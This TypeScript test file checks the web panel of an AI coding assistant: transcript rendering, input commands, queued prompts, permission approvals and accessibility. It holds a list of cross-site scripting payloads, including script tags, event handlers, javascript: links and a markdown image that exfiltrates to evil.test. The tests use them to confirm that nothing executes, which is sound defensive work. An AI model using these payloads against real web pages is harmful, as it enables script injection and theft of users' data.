import { mkdirSync } from "node:fs";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { PermissionParams, SessionUpdate } from "../../src/protocol";
import { answer, call, compacted, delta, ended, occupancy, prompt, result, SESSION, started, told } from "../told";
import { axe, launch, open, type Panel, snapshot, type Theme } from "./harness";

let browser: Browser;
beforeAll(async () => (browser = await launch()));
afterAll(async () => browser.close());

async function panel(theme: Theme = "dark"): Promise<Panel> {
  return open(browser, theme);
}

const STORY = told(
  prompt("t1", "Where is the entry point, and how is a prompt queued?"), started("t1"),
  answer("t1", "m1", "I look for it.", { reasoning: "The package is small, so a search is enough.", calls: [call("c1", "grep", { pattern: "def main" }), call("c2", "read", { path: "server/app.py", start: 1, end: 40 })] }),
  result("c1", "server/app.py:12: def main() -> int:", { op: "search", paths: [], detail: "1 hit for 'def main'" }),
  result("c2", "import sys\n…", { paths: ["server/app.py"], detail: "40 lines of server/app.py" }), compacted("## Goal\n\nFind the entry point.\n\n## Done\n\n- searched `def main`"),
  answer("t1", "m2", "The entry point is `main` in `server/app.py`:\n\n```python\ndef main() -> int:\n    \"\"\"Start the server.\"\"\"\n    queue = Queue(maxsize=10)\n    return serve(queue)\n```\n\n- A prompt waits **in the queue** until its turn starts.\n- See [the page](https://example.org/docs) or [app.py](server/app.py).", { calls: [call("c3", "read", { path: "missing.py" })] }),
  result("c3", "There is no file missing.py.", { isError: true, detail: "no such file" }), ended("t1"),
);
const PERMISSION: PermissionParams = {
  sessionId: SESSION, callId: "c9", name: "bash", arguments: '{"command": "make test"}', description: "Runs a command in the workspace.",
  shown: "make test", targets: ["/home/me/project"], sha256: "0", careful: null, grant: "make test",
};
const EDIT: PermissionParams = {
  sessionId: SESSION, callId: "c8", name: "edit", description: "Replaces texts of a file.",
  arguments: JSON.stringify({ path: "server/app.py", edits: [{ old_text: "maxsize=10", new_text: "maxsize=100" }] }),
  shown: "--- server/app.py\n+++ server/app.py\n@@ -3,3 +3,3 @@\n def main():\n-    queue = Queue(maxsize=10)\n+    queue = Queue(maxsize=100)", targets: ["/home/me/project/server/app.py"],
  sha256: "0", careful: "It changes what starts the server.", grant: null,
};

/** What a model, a tool, a file's name or an error may hold. */
const HOSTILE = [
  "<script>window.ran.push(1)</script>", "<img src=x onerror='window.ran.push(2)'>", "<svg onload=window.ran.push(3)>", "[x](javascript:window.ran.push(4))",
  "![exfiltrate](https://evil.test/?q=secret)", "<a href='javascript:window.ran.push(5)' onclick='window.ran.push(6)'>x</a>", "<style>@import 'https://evil.test/a.css';</style>",
  "<iframe srcdoc='<script>parent.ran.push(7)</script>'></iframe>", "<form action=https://evil.test><button>x</button></form>", "[x](data:text/html,<script>window.ran.push(8)</script>)",
  "<https://evil.test/auto>", "```\"><img src=x onerror=window.ran.push(9)>\n<script>window.ran.push(10)</script>\n```", "<math><mtext><style><img src=x onerror=window.ran.push(11)></style></mtext></math>",
  "[x]: https://evil.test/'onmouseover='window.ran.push(12)\n\n[x]", "<link rel=stylesheet href=https://evil.test/x.css>", "<base href=https://evil.test/>", "&lt;img src=x onerror=window.ran.push(13)&gt;",
  "<div style=\"background:url(https://evil.test/bg)\">x</div>", "<video poster=https://evil.test/p src=https://evil.test/v autoplay></video>", "<input autofocus onfocus=window.ran.push(14)>",
];

describe("what was said never becomes more than text", () => {
  test("no script runs, nothing is asked for, and no dangerous node stands in the page", async () => {
    const all = HOSTILE.join("\n\n");
    const view = await panel();
    await view.tell(snapshot(told(
      prompt("t1", all), started("t1"), answer("t1", "m1", all, { reasoning: all, model: all, calls: [call("c1", all, { path: all })] }), result("c1", all, { paths: [all], command: all, detail: all }),
      compacted(all), ended("t1", "failed"), { kind: "renamed", title: all }, { kind: "instructions", path: all, tokens: 1, note: all }, prompt("t2", all), started("t2"), delta("m2", 0, all), delta("m2", 0, all, "reasoning"),
    ), { permissions: [{ ...PERMISSION, name: all, arguments: all, description: all, shown: all, targets: [all], careful: all, grant: all }] }));
    await view.tell({ kind: "problem", message: all, hint: all, restore: all });
    await view.page.locator("details").evaluateAll((each) => each.forEach((one) => one.setAttribute("open", "")));
    await view.page.locator("a").evaluateAll((links) => links.forEach((link) => (link as HTMLElement).click()));
    const seen = await view.page.evaluate(() => ({
      ran: (window as unknown as { ran: number[] }).ran,
      nodes: [...document.querySelectorAll("script:not([nonce]), img, iframe, object, embed, form, style, link:not([rel=stylesheet]), base, video, math, #rows svg, #rows input")].map((node) => node.outerHTML),
      styled: [...document.querySelectorAll("#rows [style]")].length,
      handlers: [...document.querySelectorAll("*")].filter((node) => [...node.attributes].some((attribute) => attribute.name.startsWith("on"))).length,
      followable: [...document.querySelectorAll("a[href]")].length,
    }));
    expect(seen).toEqual({ ran: [], nodes: [], styled: 0, handlers: 0, followable: 0 });
    expect(view.asked).toEqual([]);
    expect(view.page.url()).toBe("https://panel.test/");
    for (const message of await view.told("openLink")) expect(message).not.toMatchObject({ href: expect.stringMatching(/^(javascript|data):/) });
    await view.page.close();
  });

  test("the page's own policy refuses what would slip through", async () => {
    const view = await panel();
    await view.page.evaluate(() => {
      document.body.insertAdjacentHTML("beforeend", "<img src='https://evil.test/x.png'><button onclick='window.ran.push(1)' id='bad'>x</button><iframe src='https://evil.test/'></iframe>");
      (document.getElementById("bad") as HTMLElement).click();
    });
    await expect.poll(() => view.complaints.length).toBeGreaterThan(0);
    expect(await view.page.evaluate(() => (window as unknown as { ran: number[] }).ran)).toEqual([]);
    expect(view.asked).toEqual([]);
    await view.page.close();
  });
});

describe("the transcript", () => {
  test("a story is shown: prompt, thought, calls in a line, compaction, code", async () => {
    const view = await panel();
    await view.tell(snapshot(STORY, { occupancy: occupancy(13_300, { estimated: 200 }) }));
    const { page } = view;
    expect(await page.locator(".meter .figures").textContent()).toContain("≈13k / 31k (43 %)");
    expect(await page.locator(".row.prompt .text").textContent()).toBe("Where is the entry point, and how is a prompt queued?");
    expect(await page.locator(".reasoning").getAttribute("open")).toBeNull();
    expect(await page.locator(".call summary").allInnerTexts()).toEqual([expect.stringMatching(/grep\s+def main\s+1 hit/), expect.stringMatching(/read\s+server\/app.py 1-40\s+40 lines/), expect.stringMatching(/read\s+missing.py\s+no such file/)]);
    expect(await page.locator(".compacted .rule").innerText()).toContain("24,846 → 16,766 (−33 %)");
    expect(await page.locator(".ledger").isVisible()).toBe(false);
    await page.locator(".compacted summary").click();
    expect(await page.locator(".ledger").innerText()).toContain("Find the entry point.");
    await page.locator(".call").nth(1).locator("summary").click();
    expect(await page.locator(".call").nth(1).locator("pre").first().innerText()).toContain('"path": "server/app.py"');
    expect(await page.locator(".hljs-keyword").count()).toBeGreaterThan(0);
    await page.locator("[data-copy]").click();
    expect(await view.told("copy")).toEqual([{ kind: "copy", text: expect.stringContaining("queue = Queue(maxsize=10)") }]);
    expect(view.complaints).toEqual([]);
    await page.close();
  });

  test("links are asked for, never followed", async () => {
    const view = await panel();
    await view.tell(snapshot(STORY));
    await view.page.getByText("the page").click();
    await view.page.getByText("app.py", { exact: true }).focus();
    await view.page.keyboard.press("Enter");
    expect(await view.told("openLink")).toEqual([{ kind: "openLink", href: "https://example.org/docs" }, { kind: "openLink", href: "server/app.py" }]);
    await view.page.close();
  });

  test("an answer streams and stays in view, until the person scrolls", async () => {
    const view = await panel();
    const long = Array.from({ length: 200 }, (_, index) => `Line ${index}.`).join("\n\n");
    await view.tell(snapshot(told(prompt("t1", "go"), started("t1"))));
    for (let at = 0; at < long.length; at += 400) await view.tell({ kind: "update", update: { ...told(delta("m1", at, long.slice(at, at + 400)))[0]! } });
    const gap = () => view.page.locator("#log").evaluate((log) => log.scrollHeight - log.scrollTop - log.clientHeight);
    expect(await gap()).toBeLessThan(40);
    await view.page.locator("#log").hover();
    await view.page.mouse.wheel(0, -600);
    await view.page.locator("#latest:not([hidden])").waitFor();
    await view.tell({ kind: "update", update: told(delta("m1", long.length, "\n\nMore."))[0]! });
    expect(await gap()).toBeGreaterThan(300);
    await view.page.locator("#latest").click();
    expect(await gap()).toBeLessThan(40);
    await view.page.close();
  });

  test("an update of another session changes nothing", async () => {
    const view = await panel();
    await view.tell(snapshot(STORY));
    await view.tell({ kind: "update", update: { sessionId: "another", seq: 99, at: 1, update: prompt("tx", "not here") } });
    expect(await view.page.locator("body").innerText()).not.toContain("not here");
    await view.page.close();
  });

  test("of five thousand messages only what is looked at is drawn", async () => {
    const view = await panel();
    const turns = Array.from({ length: 2500 }, (_, index) => [prompt(`t${index}`, `Question ${index}`), started(`t${index}`), answer(`t${index}`, `m${index}`, `Answer **${index}**, with \`code\` and some more words to fill a line or two.`), ended(`t${index}`)]);
    await view.tell(snapshot(told(...turns.flat())));
    await view.page.getByText("Answer 2499").waitFor();
    const drawn = () => view.page.locator(".row").count();
    expect(await drawn()).toBeLessThan(200);
    await view.page.getByRole("button", { name: /earlier rows/ }).click();
    await expect.poll(drawn).toBeGreaterThan(200);
    await view.page.locator("#input").fill("still here");
    expect(await view.page.locator("#input").inputValue()).toBe("still here");
    await view.page.close();
  });
});

describe("typing", () => {
  test("Enter sends, Shift+Enter breaks the line, Up recalls", async () => {
    const view = await panel();
    await view.tell(snapshot([]));
    const input = view.page.locator("#input");
    await input.pressSequentially("one");
    await input.press("Shift+Enter");
    await input.pressSequentially("two");
    await input.press("Enter");
    expect(await view.told("send")).toEqual([{ kind: "send", text: "one\ntwo", mode: "queue", mentions: [] }]);
    expect(await input.inputValue()).toBe("");
    await input.press("ArrowUp");
    expect(await input.inputValue()).toBe("one\ntwo");
    await view.page.close();
  });

  test("while it works Enter queues, Ctrl+Enter steers, Esc stops", async () => {
    const view = await panel();
    await view.tell(snapshot(told(prompt("t1", "go"), started("t1"))));
    const input = view.page.locator("#input");
    await input.fill("later");
    await input.press("Enter");
    await input.fill("now");
    await input.press("Control+Enter");
    expect(await view.told("send")).toMatchObject([{ text: "later", mode: "queue" }, { text: "now", mode: "steer" }]);
    await input.press("Escape");
    expect(await view.told("command")).toEqual([{ kind: "command", name: "stop", argument: "" }]);
    await view.page.close();
  });

  test("Esc in an idle session stops nothing", async () => {
    const view = await panel();
    await view.tell(snapshot(STORY));
    await view.page.locator("#input").press("Escape");
    expect(await view.told("command")).toEqual([]);
    await view.page.close();
  });

  test("an unknown command is an error, is not sent, and stays to be corrected", async () => {
    const view = await panel();
    await view.tell(snapshot([]));
    const input = view.page.locator("#input");
    await input.fill("/smol please");
    await input.press("Enter");
    expect(await view.page.locator("[role=alert]").innerText()).toContain("There is no command /smol");
    expect(await view.told("send")).toEqual([]);
    expect(await input.inputValue()).toBe("/smol please");
    await input.pressSequentially("!");
    expect(await view.page.locator("[role=alert]").count()).toBe(0);
    await view.page.close();
  });

  test("commands complete, and go to the extension", async () => {
    const view = await panel();
    await view.tell(snapshot([]));
    const input = view.page.locator("#input");
    await input.pressSequentially("/com");
    await input.press("Tab");
    expect(await input.inputValue()).toBe("/compact");
    await input.pressSequentially(" keep the plan");
    await input.press("Enter");
    expect(await view.told("command")).toEqual([{ kind: "command", name: "compact", argument: "keep the plan" }]);
    await view.page.close();
  });

  test("files are named after an @, and go along as mentions", async () => {
    const view = await panel();
    await view.tell(snapshot([]));
    const input = view.page.locator("#input");
    await input.pressSequentially("see @ser");
    expect((await view.told("findFiles")).at(-1)).toEqual({ kind: "findFiles", query: "ser" });
    await view.tell({ kind: "files", query: "se", found: ["stale.md"] });
    expect(await view.page.getByRole("option").count()).toBe(0);
    await view.tell({ kind: "files", query: "ser", found: ["docs/server.md", "src/server.ts"] });
    await input.press("ArrowDown");
    await input.press("Enter");
    expect(await input.inputValue()).toBe("see @src/server.ts ");
    await input.pressSequentially("first");
    await input.press("Enter");
    expect(await view.told("send")).toEqual([{ kind: "send", text: "see @src/server.ts first", mode: "queue", mentions: ["src/server.ts"] }]);
    await view.page.close();
  });

  test("a prompt that was refused comes back", async () => {
    const view = await panel();
    await view.tell(snapshot([]));
    await view.tell({ kind: "problem", message: "No key.", hint: "Set one.", restore: "my long prompt" });
    expect(await view.page.locator("#input").inputValue()).toBe("my long prompt");
    expect(await view.page.locator("[role=alert]").innerText()).toContain("No key. Set one.");
    await view.page.close();
  });
});

describe("what waits", () => {
  const BUSY: SessionUpdate[] = told(prompt("t1", "go"), started("t1"), prompt("t2", "then this"));

  test("prompts wait where they are seen, and can be edited, steered and removed", async () => {
    const view = await panel();
    await view.tell(snapshot(BUSY));
    const { page } = view;
    expect(await page.locator(".waiting .text").innerText()).toBe("then this");
    await page.getByRole("button", { name: "Edit" }).click();
    await page.getByLabel("Edit waiting prompt").fill("then that");
    await page.getByLabel("Edit waiting prompt").press("Enter");
    await page.getByRole("button", { name: "Steer" }).click();
    await page.getByRole("button", { name: "Remove" }).click();
    expect((await view.told()).slice(-3)).toEqual([{ kind: "queueEdit", turnId: "t2", text: "then that" }, { kind: "queueSteer", turnId: "t2" }, { kind: "queueRemove", turnId: "t2" }]);
    await page.close();
  });

  test("an approval is asked for inline, with the whole call, for once or for the session", async () => {
    const view = await panel();
    await view.tell(snapshot(BUSY, { permissions: [PERMISSION] }));
    const { page } = view;
    expect(await page.locator(".approval").innerText()).toContain("make test");
    await page.getByRole("button", { name: "Allow for this session" }).click();
    await page.getByLabel("Reason when denied").fill("not now");
    await page.getByRole("button", { name: "Deny" }).click();
    await view.tell({ kind: "permissions", permissions: [] });
    expect(await view.told("decide")).toEqual([
      { kind: "decide", callId: "c9", decision: "allow", scope: "session", reason: "" }, { kind: "decide", callId: "c9", decision: "deny", scope: "once", reason: "not now" },
    ]);
    expect(await page.locator(".approval").count()).toBe(0);
    await page.close();
  });

  test("what would be written is shown as lines that go and come", async () => {
    const view = await panel();
    await view.tell(snapshot(BUSY, { permissions: [EDIT] }));
    const shown = view.page.locator(".approval > .diff");
    expect(await shown.locator(".removed").allInnerTexts()).toEqual(["-    queue = Queue(maxsize=10)\n"]);
    expect(await shown.locator(".added").allInnerTexts()).toEqual(["+    queue = Queue(maxsize=100)\n"]);
    expect(await view.page.locator(".approval").innerText()).toContain("It changes what starts the server.");
    expect(await view.page.getByRole("button", { name: "Allow for this session" }).count()).toBe(0);
    await view.page.getByRole("button", { name: "Allow once" }).click();
    expect(await view.told("decide")).toEqual([{ kind: "decide", callId: "c8", decision: "allow", scope: "once", reason: "" }]);
    await view.page.close();
  });

  test("a compaction in progress can be cancelled", async () => {
    const view = await panel();
    await view.tell(snapshot(STORY));
    await view.tell({ kind: "compaction", compaction: { sessionId: SESSION, status: "summarising", reason: "manual", profile: "ullage", strategy: "model", report: null, error: null } });
    await view.page.getByRole("button", { name: "Cancel" }).click();
    expect(await view.told("command")).toEqual([{ kind: "command", name: "stop", argument: "" }]);
    await view.page.close();
  });
});

describe.each(["dark", "light", "contrast"] as const)("in %s", (theme) => {
  test("axe finds nothing (SHOTS names a folder for pictures)", async () => {
    const view = await panel(theme);
    await view.tell(snapshot(STORY, { occupancy: occupancy(22_300), permissions: [EDIT] }));
    await view.tell({ kind: "problem", message: "The model was not reached.", hint: "Try again.", restore: "" });
    const found = await axe(view);
    if (process.env.SHOTS) {
      mkdirSync(process.env.SHOTS, { recursive: true });
      await view.page.screenshot({ path: `${process.env.SHOTS}/panel-${theme}.png` });
    }
    expect(found).toEqual([]);
    await view.page.close();
  });
});
